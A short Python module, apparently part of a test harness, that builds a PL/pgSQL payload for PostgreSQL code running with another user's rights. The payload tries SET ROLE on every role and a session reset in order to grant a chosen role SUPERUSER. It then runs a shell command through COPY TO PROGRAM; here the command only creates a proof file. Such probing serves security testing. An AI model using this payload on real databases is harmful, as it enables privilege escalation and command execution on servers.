"""What code of a database tries when it runs with the rights of somebody else."""

TRY = """
    FOR name IN SELECT rolname FROM pg_roles LOOP
        BEGIN
            EXECUTE format('SET ROLE %I', name);
            EXECUTE 'ALTER ROLE {role} SUPERUSER';
        EXCEPTION WHEN OTHERS THEN NULL;
        END;
    END LOOP;
    BEGIN
        RESET SESSION AUTHORIZATION;
        EXECUTE 'ALTER ROLE {role} SUPERUSER';
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
    BEGIN
        EXECUTE format('COPY (SELECT 1) TO PROGRAM %L', 'touch {proof}');
    EXCEPTION WHEN OTHERS THEN NULL;
    END;
"""
"""The body of a PL/pgSQL function with a variable ``name``; ``{role}`` wants to become a superuser, ``{proof}`` is a file to make."""


def attack(role, proof):
    """The body with both filled in."""
    return TRY.replace("{role}", role).replace("{proof}", str(proof))
